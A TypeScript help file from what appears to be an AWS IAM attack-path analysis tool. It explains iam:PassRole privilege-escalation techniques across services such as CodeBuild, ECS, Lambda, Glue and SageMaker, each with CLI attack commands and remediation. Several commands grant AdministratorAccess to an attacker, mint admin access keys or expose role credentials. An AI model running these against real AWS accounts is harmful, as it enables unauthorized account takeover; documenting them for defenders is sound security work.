/**
 * Help for the AWS PassRole techniques (passrole.ts): create a compute resource that runs as a role
 * trusting its service, and act as that role through the code it runs.
 */
import type { Help } from '../../../explain/help';
import { GUIDE, pf, SAR } from './help-refs';

export const PASSROLE_HELP: Record<string, Help> = {
  'apprunner-001': {
    title: 'Create an App Runner service with a chosen instance role',
    meaning: 'The source can create an App Runner service whose instance role is the target (a role trusting tasks.apprunner.amazonaws.com); the code the service runs acts as that role.',
    attack:
      '`aws apprunner create-service --service-name web --source-configuration file://src.json --instance-configuration InstanceRoleArn=arn:aws:iam::ACCOUNT:role/TARGET`, where src.json points at a public image (the AWS CLI image from ECR Public) whose StartCommand runs an AWS CLI call as the role, e.g. attaching AdministratorAccess to the attacker\'s user.',
    remediation:
      'Scope iam:PassRole to the App Runner roles the team owns, with condition iam:PassedToService = tasks.apprunner.amazonaws.com; keep App Runner instance roles least-privilege; alert on CreateService with an unfamiliar InstanceRoleArn.',
    references: [pf('apprunner-001'), SAR.apprunner, GUIDE.passRole],
  },
  'bedrock-001': {
    title: 'Create a Bedrock AgentCore code interpreter with a chosen role',
    meaning: 'The source can create an AgentCore code interpreter whose execution role is the target, open a session on it and run code there with the role\'s credentials.',
    attack:
      '`aws bedrock-agentcore-control create-code-interpreter --name scratch --network-configuration \'{"networkMode":"SANDBOX"}\' --execution-role-arn ROLE_ARN`, then StartCodeInterpreterSession and InvokeCodeInterpreter (executeCode) with Python that calls boto3 as the role, or prints the session credentials to copy out.',
    remediation:
      'Limit iam:PassRole on roles trusting bedrock-agentcore.amazonaws.com to the few principals that build agents (iam:PassedToService condition); give code-interpreter roles no IAM or broad data permissions.',
    references: [pf('bedrock-001'), SAR.bedrockAgentcore, GUIDE.passRole],
  },
  'cloudformation-001': {
    title: 'Create a CloudFormation stack with a chosen service role',
    meaning: 'The source can create a stack whose service role is the target; CloudFormation then creates whatever the template declares with that role\'s permissions.',
    attack:
      'Write a template declaring an IAM user with AdministratorAccess and an AWS::IAM::AccessKey whose secret is a stack output, then `aws cloudformation create-stack --stack-name tooling --template-body file://t.yaml --role-arn ROLE_ARN --capabilities CAPABILITY_NAMED_IAM` and read the outputs with `aws cloudformation describe-stacks`.',
    remediation:
      'Allow iam:PassRole on CloudFormation service roles only with iam:PassedToService = cloudformation.amazonaws.com and to deployment principals; restrict which role stacks may use with the cloudformation:RoleArn condition key; keep service roles scoped to the resource types they deploy.',
    references: [pf('cloudformation-001'), SAR.cloudformation, GUIDE.passRole],
  },
  'cloudformation-003': {
    title: 'Create a StackSet and deploy its instances',
    meaning:
      'The source can create a self-managed StackSet, passing an administration role, and deploy stack instances: the execution role in each target account (often an administrator) creates what the template declares.',
    attack:
      '`aws cloudformation create-stack-set --stack-set-name baseline --template-body file://t.yaml --administration-role-arn ADMIN_ROLE_ARN --execution-role-name EXECUTION_ROLE --capabilities CAPABILITY_NAMED_IAM`, then `aws cloudformation create-stack-instances --stack-set-name baseline --accounts ACCOUNT --regions us-east-1`. The template can create an admin role that trusts the attacker, in every account listed.',
    remediation:
      'Restrict iam:PassRole on the StackSet administration role and cloudformation:CreateStackSet to the platform team; narrow the execution role\'s trust to that administration role and its permissions to what baselines deploy; prefer service-managed StackSets run from a delegated administrator.',
    references: [pf('cloudformation-003'), SAR.cloudformation, GUIDE.passRole],
  },
  'codebuild-001': {
    title: 'Create a CodeBuild project with a chosen service role and start it',
    meaning: 'The source can create a CodeBuild project whose service role is the target and start a build: the buildspec\'s commands run with that role\'s credentials.',
    attack:
      'Put `{"type":"NO_SOURCE","buildspec":"..."}` in source.json, the buildspec\'s build phase running e.g. `aws iam attach-user-policy --user-name ME --policy-arn arn:aws:iam::aws:policy/AdministratorAccess`; `aws codebuild create-project --name ci-tmp --source file://source.json --artifacts type=NO_ARTIFACTS --environment file://env.json --service-role ROLE_ARN`, then `aws codebuild start-build --project-name ci-tmp` and follow its log.',
    remediation:
      'Scope iam:PassRole on roles trusting codebuild.amazonaws.com to the pipeline that owns them (iam:PassedToService = codebuild.amazonaws.com); keep CodeBuild service roles to the artifacts and logs they need; alert on CreateProject by principals outside the CI platform.',
    references: [pf('codebuild-001'), SAR.codebuild, GUIDE.passRole],
  },
  'codebuild-004': {
    title: 'Create a CodeBuild project and start a batch build',
    meaning: 'Like codebuild-001, but the build is started as a batch (codebuild:StartBuildBatch): the batch\'s builds run the attacker\'s commands as the target service role.',
    attack:
      'Create the project with `--service-role ROLE_ARN`, a batch configuration (`--build-batch-config serviceRole=ROLE_ARN`) and a buildspec whose `batch: build-list:` entry carries the commands, then `aws codebuild start-build-batch --project-name ci-batch`; principals allowed StartBuildBatch are often overlooked next to StartBuild.',
    remediation:
      'Treat codebuild:StartBuildBatch exactly like StartBuild in reviews and in the iam:PassRole scoping for codebuild.amazonaws.com; deny both outside the CI platform\'s roles.',
    references: [pf('codebuild-004'), SAR.codebuild, GUIDE.passRole],
  },
  'datapipeline-001': {
    title: 'Create and activate a Data Pipeline with a chosen role',
    meaning: 'The source can define and activate a Data Pipeline whose resource role is the target (trusting datapipeline or elasticmapreduce): its activities run shell commands with that role.',
    attack:
      '`aws datapipeline create-pipeline --name nightly --unique-id nightly-1`, `aws datapipeline put-pipeline-definition --pipeline-id ID --pipeline-definition file://def.json` (an Ec2Resource using the role plus a ShellCommandActivity running AWS CLI calls), then `aws datapipeline activate-pipeline --pipeline-id ID`.',
    remediation:
      'Data Pipeline is closed to new customers: if unused, deny datapipeline:* with an SCP and delete roles that trust it; otherwise scope iam:PassRole on its roles with iam:PassedToService.',
    references: [pf('datapipeline-001'), SAR.datapipeline, GUIDE.passRole],
  },
  'ec2-001': {
    title: 'Launch an EC2 instance with a chosen instance profile',
    meaning: 'The source can launch an instance carrying an instance profile of the target role (a role trusting ec2.amazonaws.com): code on the instance gets the role\'s credentials.',
    attack:
      '`aws ec2 run-instances --image-id AMI --instance-type t3.micro --iam-instance-profile Name=PROFILE --user-data file://boot.sh`; boot.sh runs AWS CLI commands as the role, or posts the credentials from the metadata service to the attacker. If no profile holds the role, iam:CreateInstanceProfile and iam:AddRoleToInstanceProfile make one.',
    remediation:
      'Scope iam:PassRole for ec2.amazonaws.com to the instance roles each team uses; keep powerful roles out of instance profiles; use the ec2:InstanceProfile condition on ec2:RunInstances to pin allowed profiles.',
    references: [pf('ec2-001'), SAR.ec2, GUIDE.ec2Roles],
  },
  'ec2-003': {
    title: 'Request a Spot instance with a chosen instance profile',
    meaning: 'Same outcome as launching an instance, through a Spot request: the instance starts with the target role\'s instance profile and runs the attacker\'s user data.',
    attack:
      '`aws ec2 request-spot-instances --instance-count 1 --type one-time --launch-specification file://spec.json`, with spec.json naming the AMI, `"IamInstanceProfile":{"Name":"PROFILE"}` and base64-encoded UserData; policies that restrict RunInstances often forget RequestSpotInstances.',
    remediation:
      'Apply the same iam:PassRole scoping and instance-profile restrictions to ec2:RequestSpotInstances as to ec2:RunInstances; deny Spot requests where they are not used.',
    references: [pf('ec2-003'), SAR.ec2, GUIDE.ec2Roles],
  },
  'ecs-001': {
    title: 'Create an ECS cluster, task definition and service with a chosen task role',
    meaning: 'The source can create a cluster, register a task definition whose task role is the target (trusting ecs-tasks.amazonaws.com) and run it as a service: the container acts as the role.',
    attack:
      '`aws ecs create-cluster --cluster-name tmp`, `aws ecs register-task-definition --family t --requires-compatibilities FARGATE --network-mode awsvpc --cpu 256 --memory 512 --task-role-arn ROLE_ARN --container-definitions file://c.json` (an AWS CLI image whose command runs as the role), then `aws ecs create-service --cluster tmp --service-name t --task-definition t --desired-count 1 --launch-type FARGATE --network-configuration ...`.',
    remediation:
      'Scope iam:PassRole on task roles to iam:PassedToService = ecs-tasks.amazonaws.com and the roles of the team\'s services; restrict ecs:RegisterTaskDefinition to CI; keep task roles least-privilege.',
    references: [pf('ecs-001'), SAR.ecs, GUIDE.passRole],
  },
  'ecs-002': {
    title: 'Create an ECS cluster and run a one-off task with a chosen task role',
    meaning: 'Like ecs-001 but with a single task (ecs:RunTask) instead of a service: a one-off Fargate task runs as the target role and exits.',
    attack:
      'Create the cluster and register the task definition with `--task-role-arn ROLE_ARN`, then `aws ecs run-task --cluster tmp --task-definition t --launch-type FARGATE --network-configuration "awsvpcConfiguration={subnets=[SUBNET],assignPublicIp=ENABLED}"`; the container reads its credentials from 169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI.',
    remediation:
      'Same iam:PassRole scoping as for services; additionally restrict ecs:RunTask with the ecs:task-definition or ecs:cluster condition keys so ad-hoc tasks use approved definitions only.',
    references: [pf('ecs-002'), SAR.ecs, GUIDE.passRole],
  },
  'ecs-003': {
    title: 'Create a service on an existing ECS cluster with a chosen task role',
    meaning: 'The source can register a task definition with the target as task role and start it as a service on a cluster that already exists.',
    attack:
      '`aws ecs list-clusters` to find a cluster, register the task definition with `--task-role-arn ROLE_ARN`, then `aws ecs create-service --cluster EXISTING --service-name sidecar --task-definition t --desired-count 1`; a long-running service gives a persistent foothold as the role.',
    remediation:
      'Limit ecs:CreateService on shared clusters to the deployment role (resource-level ecs:cluster condition); scope iam:PassRole on task roles with iam:PassedToService = ecs-tasks.amazonaws.com.',
    references: [pf('ecs-003'), SAR.ecs, GUIDE.passRole],
  },
  'ecs-004': {
    title: 'Run a task on an existing ECS cluster with a chosen task role',
    meaning: 'The source can register a task definition with the target as task role and run it once on an existing cluster.',
    attack:
      'Register the task definition (`--task-role-arn ROLE_ARN`, command printing or using the container credentials), then `aws ecs run-task --cluster EXISTING --task-definition t --launch-type FARGATE --network-configuration ...` and read the result from the task\'s CloudWatch log stream.',
    remediation:
      'Restrict ecs:RunTask on shared clusters to operators, with the ecs:task-definition condition listing approved families; scope iam:PassRole on task roles.',
    references: [pf('ecs-004'), SAR.ecs, GUIDE.passRole],
  },
  'ecs-005': {
    title: 'Start a task on an existing EC2 container instance with a chosen task role',
    meaning: 'The source can register a task definition with the target as task role and place it on a chosen EC2 container instance of an existing cluster (ecs:StartTask).',
    attack:
      '`aws ecs list-container-instances --cluster EXISTING`, register the task definition in bridge mode with `--task-role-arn ROLE_ARN`, then `aws ecs start-task --cluster EXISTING --task-definition t --container-instances CI_ARN`. On EC2 hosts the container may also reach the instance\'s own role through IMDS unless that is blocked.',
    remediation:
      'Scope iam:PassRole on task roles and restrict ecs:StartTask to the ECS agent tooling; block tasks from the host\'s instance metadata (IMDSv2 required with a hop limit of 1; ECS_AWSVPC_BLOCK_IMDS=true in awsvpc mode).',
    references: [pf('ecs-005'), SAR.ecs, GUIDE.passRole],
  },
  'glue-001': {
    title: 'Create a Glue development endpoint with a chosen role',
    meaning: 'The source can create a Glue dev endpoint running as the target role (trusting glue.amazonaws.com) with its own SSH key, then log in and use the role.',
    attack:
      '`aws glue create-dev-endpoint --endpoint-name dev1 --role-arn ROLE_ARN --public-key "$(cat ~/.ssh/id_ed25519.pub)"`, wait for READY with `aws glue get-dev-endpoint --endpoint-name dev1`, then `ssh -i ~/.ssh/id_ed25519 glue@ENDPOINT_ADDRESS` and run AWS CLI commands there.',
    remediation:
      'Deny glue:CreateDevEndpoint where dev endpoints are not used (they are a legacy feature); scope iam:PassRole on Glue roles with iam:PassedToService = glue.amazonaws.com.',
    references: [pf('glue-001'), SAR.glue, GUIDE.passRole],
  },
  'glue-003': {
    title: 'Create a Glue job with a chosen role and run it',
    meaning: 'The source can create a Glue job whose role is the target and start a run: the job\'s script executes with that role.',
    attack:
      'Upload a Python shell script that calls boto3 IAM APIs, then `aws glue create-job --name etl-tmp --role ROLE_ARN --command Name=pythonshell,ScriptLocation=s3://BUCKET/x.py,PythonVersion=3.9` and `aws glue start-job-run --job-name etl-tmp`.',
    remediation:
      'Scope iam:PassRole on Glue job roles with iam:PassedToService = glue.amazonaws.com; restrict glue:CreateJob to the data platform\'s deployment role; keep job roles to the buckets and catalogs they process.',
    references: [pf('glue-003'), SAR.glue, GUIDE.passRole],
  },
  'glue-004': {
    title: 'Create a Glue job with a chosen role and a trigger for it',
    meaning: 'Like glue-003, but the run is started by a trigger the source creates (glue:CreateTrigger), so glue:StartJobRun is not needed.',
    attack:
      'Create the job with `--role ROLE_ARN`, then `aws glue create-trigger --name every-minute --type SCHEDULED --schedule "cron(0/1 * * * ? *)" --start-on-creation --actions JobName=etl-tmp`; the schedule keeps re-running the script until the trigger is deleted.',
    remediation:
      'Review glue:CreateTrigger with the same care as glue:StartJobRun; scope iam:PassRole on Glue roles; alert on new SCHEDULED triggers created outside deployments.',
    references: [pf('glue-004'), SAR.glue, GUIDE.passRole],
  },
  'lambda-001': {
    title: 'Create a Lambda function with a chosen role and invoke it',
    meaning: 'The source can create a function whose execution role is the target (trusting lambda.amazonaws.com) and invoke it: the function\'s code runs as the role.',
    attack:
      'Zip a handler that returns the AWS_ACCESS_KEY_ID, AWS_SECRET_ACCESS_KEY and AWS_SESSION_TOKEN environment variables, `aws lambda create-function --function-name tmp --runtime python3.12 --handler index.handler --role ROLE_ARN --zip-file fileb://f.zip`, then `aws lambda invoke --function-name tmp out.json`.',
    remediation:
      'Scope iam:PassRole on Lambda execution roles with iam:PassedToService = lambda.amazonaws.com and to the roles of the team\'s functions; keep execution roles narrow; alert on CreateFunction outside CI.',
    references: [pf('lambda-001'), SAR.lambda, GUIDE.passRole],
  },
  'lambda-002': {
    title: 'Create a Lambda function with a chosen role and an event source for it',
    meaning: 'The source can create a function running as the target and attach it to an existing stream or queue (event source mapping), so the service invokes it without lambda:InvokeFunction.',
    attack:
      'Create the function with `--role ROLE_ARN`, then `aws lambda create-event-source-mapping --function-name tmp --event-source-arn arn:aws:sqs:REGION:ACCOUNT:QUEUE` (or a DynamoDB or Kinesis stream with `--starting-position LATEST`); the next message or record runs the code.',
    remediation:
      'Scope iam:PassRole for lambda.amazonaws.com; restrict lambda:CreateEventSourceMapping to deployment roles; note that the execution role also needs read access to the source, so keep it narrow.',
    references: [pf('lambda-002'), SAR.lambda, GUIDE.passRole],
  },
  'lambda-006': {
    title: 'Create a Lambda function with a chosen role and grant oneself invoke',
    meaning: 'The source can create a function running as the target and add a statement to the function\'s resource policy that lets it invoke the function.',
    attack:
      'Create the function with `--role ROLE_ARN`, `aws lambda add-permission --function-name tmp --statement-id self --action lambda:InvokeFunction --principal arn:aws:iam::ACCOUNT:user/ME`, then `aws lambda invoke --function-name tmp out.json`; in one account the resource policy alone allows the call.',
    remediation:
      'Scope iam:PassRole for lambda.amazonaws.com; treat lambda:AddPermission as permissions management and restrict it to deployment roles; alert on AddPermission naming a user.',
    references: [pf('lambda-006'), SAR.lambda, GUIDE.passRole],
  },
  'sagemaker-001': {
    title: 'Create a SageMaker notebook instance with a chosen role',
    meaning: 'The source can create a notebook instance whose execution role is the target (trusting sagemaker.amazonaws.com); the notebook\'s terminal and kernels run as that role.',
    attack:
      '`aws sagemaker create-notebook-instance --notebook-instance-name nb --instance-type ml.t3.medium --role-arn ROLE_ARN`, then open Jupyter through `aws sagemaker create-presigned-notebook-instance-url --notebook-instance-name nb` (a separate permission) or a lifecycle configuration, and run AWS CLI commands in its terminal.',
    remediation:
      'Scope iam:PassRole on SageMaker roles with iam:PassedToService = sagemaker.amazonaws.com; give each data-science team its own narrow execution role; restrict sagemaker:CreateNotebookInstance.',
    references: [pf('sagemaker-001'), SAR.sagemaker, GUIDE.passRole],
  },
  'sagemaker-002': {
    title: 'Create a SageMaker training job with a chosen role',
    meaning: 'The source can start a training job whose role is the target: the training container, with the attacker\'s entry script, runs as that role.',
    attack:
      'Upload a source archive whose entry point calls IAM or STS, then `aws sagemaker create-training-job --training-job-name tj --role-arn ROLE_ARN --algorithm-specification TrainingImage=FRAMEWORK_IMAGE,TrainingInputMode=File --hyper-parameters sagemaker_program=exploit.py,sagemaker_submit_directory=s3://BUCKET/src.tar.gz --output-data-config S3OutputPath=s3://BUCKET/out --resource-config file://res.json --stopping-condition MaxRuntimeInSeconds=900`; the job\'s CloudWatch log shows what the script printed.',
    remediation:
      'Scope iam:PassRole on SageMaker roles; use the sagemaker:VpcSubnets and network-isolation condition keys to keep training jobs off the internet; keep training roles to their buckets.',
    references: [pf('sagemaker-002'), SAR.sagemaker, GUIDE.passRole],
  },
  'sagemaker-003': {
    title: 'Create a SageMaker processing job with a chosen role',
    meaning: 'The source can start a processing job whose role is the target and whose container entrypoint it chooses: the command runs as that role.',
    attack:
      '`aws sagemaker create-processing-job --processing-job-name pj --role-arn ROLE_ARN --app-specification ImageUri=IMAGE,ContainerEntrypoint=python3,/opt/ml/processing/input/x.py --processing-resources file://res.json --processing-inputs file://in.json` (the script comes from S3), then watch it with `aws sagemaker describe-processing-job --processing-job-name pj`.',
    remediation:
      'Scope iam:PassRole on SageMaker roles and restrict sagemaker:CreateProcessingJob to ML pipelines; require network isolation for processing jobs (sagemaker:NetworkIsolation condition).',
    references: [pf('sagemaker-003'), SAR.sagemaker, GUIDE.passRole],
  },
};
